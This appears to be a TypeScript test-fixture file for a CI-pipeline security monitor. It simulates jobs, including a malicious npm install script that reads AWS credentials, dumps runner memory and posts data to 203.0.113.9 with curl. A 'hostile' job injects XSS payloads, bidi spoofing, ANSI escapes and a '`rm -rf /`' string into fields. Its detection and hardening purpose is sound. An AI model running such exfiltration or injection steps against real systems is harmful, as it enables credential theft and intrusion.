/* Imagined jobs. The first is the demonstration's: an install script that steals; the others are what surrounds it on most days. */
import type { Job, Run } from '@gatehouse/schema'
import { type Random, random, uuid } from './random.ts'
import { Recorder } from './recorder.ts'

const RUNNER = { name: 'runner-7f3a', os: 'Ubuntu 24.04.3 LTS', arch: 'x64', kernel: '6.12.0-54-generic' } as const
const NODE = '/opt/hostedtoolcache/node/24.21.0/x64/bin/node'
const WORK = '/home/runner/work/checkout-service/checkout-service'

export function newJob(run: Run, number: number, startedAt: number, more: Partial<Job> = {}): Job {
  return {
    id: uuid(0x30b, number),
    run,
    name: 'test',
    cwd: WORK,
    runner: RUNNER,
    agent: { version: '0.1.0', object: '3f1c9a5be27d40886d2c07f1b9f0c0a7e1d5c84b2f6a9e0d7b3c1a5f4e8d2c6b' },
    capture: { mode: 'full', reasons: [], scope: 'tree' },
    startedAt,
    ...more,
  }
}

function startRunner(record: Recorder): number {
  const worker = record.spawn(0, 0, ['/home/runner/actions-runner/bin/Runner.Worker', 'spawnclient', '112', '115'], {
    cwd: '/home/runner/actions-runner',
    flags: ['existed'],
  })
  record.wait(120)
  return worker
}

function checkout(record: Recorder, worker: number, repository: string): void {
  const step = record.step({
    name: 'Run actions/checkout@v6',
    kind: 'action',
    action: { repository: 'actions/checkout', ref: '8e8c483db84b4bee98b60c0593521ed34d9990e8' },
  })
  const node = record.spawn(worker, step, [
    '/home/runner/actions-runner/externals/node24/bin/node',
    '/home/runner/work/_actions/actions/checkout/dist/index.js',
  ])
  record.wait(180)
  const git = record.spawn(node, step, ['git', 'init', WORK])
  record.file(git, 'create', `${WORK}/.git/config`).exit(git)
  const fetch = record.spawn(node, step, ['git', '-c', 'protocol.version=2', 'fetch', '--no-tags', '--prune', '--depth=1', 'origin'])
  const remote = record.spawn(fetch, step, ['/usr/lib/git-core/git-remote-https', 'origin', `https://github.com/${repository}`])
  record.visit(remote, 'github.com', '140.82.121.3', { sent: 3_110, received: 482_300, takesMs: 340 })
  record.exit(remote).exit(fetch)
  const out = record.spawn(node, step, ['git', 'checkout', '--progress', '--force', 'refs/remotes/origin/main'])
  for (const name of [
    'package.json',
    'package-lock.json',
    'src/index.ts',
    'src/cart.ts',
    'src/payment/provider.ts',
    'README.md',
    'test/cart.test.ts',
  ]) {
    record.file(out, 'create', `${WORK}/${name}`)
  }
  record.exit(out).exit(node).endStep(step).wait(60)
}

function installPackages(record: Recorder, npm: number, count: number, choose: Random): void {
  for (let index = 0; index < count; index += 1) {
    const name = `${choose.pick(['lodash', 'fast', 'micro', 'es', 'async', 'tiny', 'node', 'deep', 'string'])}-${choose.pick(['merge', 'glob', 'parse', 'equal', 'queue', 'match', 'walk', 'stream'])}`
    record.file(npm, 'create', `${WORK}/node_modules/${name}/package.json`)
    record.file(npm, 'create', `${WORK}/node_modules/${name}/index.js`)
    if (index % 9 === 0)
      record.visit(npm, 'registry.npm.example.test', '198.51.100.12', { sent: 900, received: choose.between(20_000, 900_000), takesMs: 45 })
    if (index % 4 === 0) record.wait(12)
  }
}

/** checkout → npm ci, whose dependency's install script steals → a test step that behaves. */
export function demonstration(run: Run, number: number, startedAt: number, more: Partial<Job> = {}): Recorder {
  const record = new Recorder(newJob(run, number, startedAt, more))
  const worker = startRunner(record)
  checkout(record, worker, run.repository ?? 'acme/app')

  const step = record.step({ name: 'npm ci' })
  const bash = record.spawn(worker, step, ['/usr/bin/bash', '-e', '/home/runner/work/_temp/5b1c8e0e-4a0b-4bd5-9a3e-8d4c.sh'])
  const npm = record.spawn(bash, step, [NODE, '/opt/hostedtoolcache/node/24.21.0/x64/bin/npm', 'ci'], { takesMs: 300 })
  installPackages(record, npm, 64, random(number))
  const shell = record.spawn(npm, step, ['/usr/bin/sh', '-c', 'node ./setup.js'], { cwd: `${WORK}/node_modules/left-padding` })
  const script = record.spawn(shell, step, [NODE, './setup.js'], { cwd: `${WORK}/node_modules/left-padding`, takesMs: 45 })

  record.file(script, 'read', '/home/runner/.aws/credentials', { family: 'cloud' })
  record.find({
    detection: 'secret-file-read',
    title: 'An install script read cloud credentials',
    message:
      'While `npm ci` installed the package left-padding, its install script opened /home/runner/.aws/credentials. Installing a package never needs this file.',
    severity: 'high',
    confidence: 'high',
    catalogue: ['R07'],
    attack: ['T1552.001'],
    events: [record.lastSeq],
    evidence: { path: '/home/runner/.aws/credentials', family: 'cloud', package: 'left-padding', script: 'postinstall' },
    remedy:
      'Treat the credentials in this file as known to others: revoke them now. Then install with `npm ci --ignore-scripts`, or remove left-padding.',
  })
  record.wait(20)
  const dump = record.spawn(script, step, ['python3', '-'], { cwd: `${WORK}/node_modules/left-padding`, takesMs: 60 })
  record.file(dump, 'read', '/proc/2102/maps', { family: 'process-memory' })
  record.memory(dump, 'open-mem', worker, { path: '/proc/2102/mem', result: 0 })
  const opened = record.lastSeq
  record.memory(dump, 'read', worker, { path: '/proc/2102/mem', result: 8_388_608 })
  record.find({
    detection: 'runner-memory-read',
    title: 'A step read the memory of the runner',
    message:
      'python3, started by the install script of left-padding, opened /proc/2102/mem and read 8.4 MB. Process 2102 is Runner.Worker, which holds every secret of the job in clear text, also those no step was given.',
    severity: 'critical',
    confidence: 'high',
    catalogue: ['R01', 'S-13'],
    attack: ['T1003.007'],
    events: [opened, record.lastSeq],
    evidence: { target: 'Runner.Worker', pid: 2_102, bytes: 8_388_608, path: '/proc/2102/mem' },
    remedy:
      'Rotate every secret this job could see, the organization’s included. Remove left-padding and look for other runs that installed it.',
  })
  record.exit(dump).wait(30)
  const curl = record.spawn(
    script,
    step,
    ['curl', '-s', '-X', 'POST', '--data-binary', '@/tmp/.cache-4f1', 'http://203.0.113.9:8000/collect'],
    { cwd: '/tmp' },
  )
  record.file(script, 'create', '/tmp/.cache-4f1')
  const flow = record.flow(curl, '203.0.113.9', { port: 8000, takesMs: 25 })
  const connected = record.lastSeq
  record.request(curl, 'POST', '203.0.113.9:8000', '/collect', { flow, ip: '203.0.113.9', port: 8000, status: 200 })
  record.wait(18).close(curl, flow, '203.0.113.9', { port: 8000, sent: 4_118, received: 162 })
  record.find({
    detection: 'upload-after-secret-read',
    title: 'Data left for an unknown address after secrets were read',
    message:
      'curl, started by the install script of left-padding, posted 4.1 KB to 203.0.113.9:8000 within a second of the credential and memory reads. The address was not learned from DNS and no other step used it.',
    severity: 'critical',
    confidence: 'medium',
    catalogue: ['R12'],
    attack: ['T1041'],
    events: [connected, connected + 1, connected + 2],
    evidence: { destination: '203.0.113.9:8000', sent: 4_118, method: 'POST', path: '/collect' },
    remedy: 'Block 203.0.113.9 for all runners and assume that what was read has left. Keep this record for the investigation.',
  })
  record.exit(curl).exit(script).exit(shell).wait(900)
  record.exit(npm).exit(bash).endStep(step).wait(80)

  testStep(record, worker)
  record.finish(0)
  return record
}

function testStep(record: Recorder, worker: number): void {
  const step = record.step({ name: 'npm test' })
  const bash = record.spawn(worker, step, ['/usr/bin/bash', '-e', '/home/runner/work/_temp/0d7b2c44-91f5-4e0e-b1d7-a21f.sh'])
  const npm = record.spawn(bash, step, [NODE, '/opt/hostedtoolcache/node/24.21.0/x64/bin/npm', 'test'], { takesMs: 260 })
  const vitest = record.spawn(npm, step, [NODE, './node_modules/.bin/vitest', 'run'], { takesMs: 350 })
  for (let index = 0; index < 3; index += 1) {
    const fork = record.spawn(vitest, step, [NODE, './node_modules/vitest/dist/workers/forks.js', `--worker=${index + 1}`], {
      takesMs: 130,
    })
    record.file(fork, 'write', `${WORK}/coverage/.tmp/coverage-${index}.json`).wait(400).exit(fork)
  }
  record.exit(vitest).exit(npm).exit(bash).endStep(step).wait(50)
}

/** A build in which nothing is wrong. */
export function ordinary(run: Run, number: number, startedAt: number, more: Partial<Job> = {}): Recorder {
  const choose = random(number * 31)
  const record = new Recorder(newJob(run, number, startedAt, more))
  const worker = startRunner(record)
  checkout(record, worker, run.repository ?? 'acme/app')
  const step = record.step({ name: 'npm ci' })
  const npm = record.spawn(worker, step, [NODE, '/opt/hostedtoolcache/node/24.21.0/x64/bin/npm', 'ci'], { takesMs: 300 })
  installPackages(record, npm, choose.between(12, 60), choose)
  record.exit(npm).endStep(step).wait(80)
  testStep(record, worker)
  const upload = record.step({
    name: 'Upload coverage',
    kind: 'action',
    action: { repository: 'codecov/codecov-action', ref: 'v5' },
  })
  const node = record.spawn(worker, upload, [
    '/home/runner/actions-runner/externals/node24/bin/node',
    '/home/runner/work/_actions/codecov/dist/index.js',
  ])
  record.visit(node, 'ingest.coverage.example.test', '198.51.100.77', { sent: 48_200, received: 610 })
  record.exit(node, choose.next() < 0.1 ? 1 : 0).endStep(upload)
  const failedRun = choose.next() < 0.12
  record.finish(failedRun ? 1 : 0)
  return record
}

/** `events` or a few more: a compilation with thousands of processes and tens of thousands of files. */
export function compilation(run: Run, number: number, startedAt: number, events: number): Recorder {
  const choose = random(number)
  const record = new Recorder(newJob(run, number, startedAt, { name: 'build (linux, x64, release, lto)' }))
  const worker = startRunner(record)
  checkout(record, worker, run.repository ?? 'acme/engine')
  const step = record.step({ name: './configure --enable-lto --with-hardening && make -j8' })
  const bash = record.spawn(worker, step, ['/usr/bin/bash', '-e', '/home/runner/work/_temp/build.sh'])
  const make = record.spawn(bash, step, ['make', '-j8'])
  let directory = make
  for (let unit = 0; record.events.length < events - 600; unit += 1) {
    if (unit % 40 === 0) {
      if (directory !== make) record.exit(directory)
      directory = record.spawn(make, step, ['make', '-C', `src/module-${unit / 40}`, 'all'])
    }
    const source = `src/module-${Math.floor(unit / 40)}/${choose.pick(['parser', 'lexer', 'codec', 'table', 'index', 'buffer'])}_${unit}.c`
    const gcc = record.spawn(
      directory,
      step,
      ['gcc', '-O2', '-g', '-Wall', '-fstack-protector-strong', '-Iinclude', '-c', source, '-o', `${source.slice(0, -2)}.o`],
      { takesMs: 0.3 },
    )
    const cc1 = record.spawn(gcc, step, ['/usr/lib/gcc/x86_64-linux-gnu/13/cc1', '-quiet', source, '-o', `/tmp/cc${unit.toString(36)}.s`], {
      takesMs: 0.8,
    })
    record.file(cc1, 'create', `/tmp/cc${unit.toString(36)}.s`).exit(cc1)
    const as = record.spawn(gcc, step, ['as', '--64', '-o', `${source.slice(0, -2)}.o`, `/tmp/cc${unit.toString(36)}.s`], { takesMs: 0.3 })
    record.file(as, 'create', `${WORK}/${source.slice(0, -2)}.o`).exit(as)
    record.file(gcc, 'unlink', `/tmp/cc${unit.toString(36)}.s`).exit(gcc)
    if (unit % 500 === 0) record.visit(make, 'mirror.example.test', '198.51.100.30', { received: 2_400_000 })
  }
  record.exit(make).exit(bash).endStep(step).wait(100)
  testStep(record, worker)
  while (record.events.length < events)
    record.file(worker, 'write', `/home/runner/work/_temp/_runner_file_commands/set_output_${record.events.length}`)
  record.finish(0)
  return record
}

/** Every field that a job controls, filled by somebody who wishes us ill. */
export function hostile(run: Run, number: number, startedAt: number): Recorder {
  const evil = '</script><img src=x onerror="window.__hacked=1">'
  const ansi = '\u001b[31mred\u001b[0m\u001b]0;title\u0007'
  const bidi = 'invoice\u202Egpj.exe'
  const long = `start-${'A'.repeat(10_000)}-end`
  const record = new Recorder(newJob(run, number, startedAt, { name: `build ${evil} ${bidi}`, command: ['sh', '-c', evil] }))
  const worker = startRunner(record)
  const step = record.step({
    name: `${evil}${ansi}`,
    kind: 'action',
    action: { repository: 'evil/\u202Enoitca', ref: `v1${ansi}`, path: '../../x' },
  })
  const shell = record.spawn(worker, step, [`/tmp/${evil}`, ansi, bidi, long, 'nul\u0000byte', '`rm -rf /`', '${{ github.token }}'])
  record.file(shell, 'create', `/tmp/${evil}`)
  record.file(shell, 'create', `/tmp/${bidi}`)
  record.file(shell, 'create', `/tmp/${long}`)
  record.file(shell, 'rename', `/tmp/zero\u200Bwidth`, { to: `/tmp/nul\u0000${ansi}` })
  record.file(shell, 'read', `/root/.ssh/${bidi}`, { family: 'ssh' })
  record.visit(shell, `xn--${'a'.repeat(59)}.${'b'.repeat(63)}.example.test`, '2001:db8:85a3::8a2e:370:7334')
  record.visit(shell, evil, '203.0.113.66')
  record.request(shell, 'GET', evil, `/${bidi}/${long.slice(0, 4_000)}`)
  record.memory(shell, 'ptrace', worker, { detail: evil, result: -1 })
  record.find({
    detection: 'sample-hostile',
    title: `Title ${evil} ${bidi}`,
    message: `Message ${evil} ${ansi} ${bidi}`,
    severity: 'medium',
    confidence: 'low',
    events: [record.lastSeq],
    evidence: { [`key${evil}`]: evil, long, bidi, nul: 'a\u0000b' },
    remedy: `Remedy ${evil}`,
  })
  for (let deep = 0, parent = shell; deep < 60; deep += 1)
    parent = record.spawn(parent, step, ['sh', '-c', `level ${deep}`], { takesMs: 0.2 })
  record
    .exit(shell, 137)
    .endStep(step, 137)
    .finish(137, 'degraded', [`note ${evil} ${bidi}`])
  return record
}
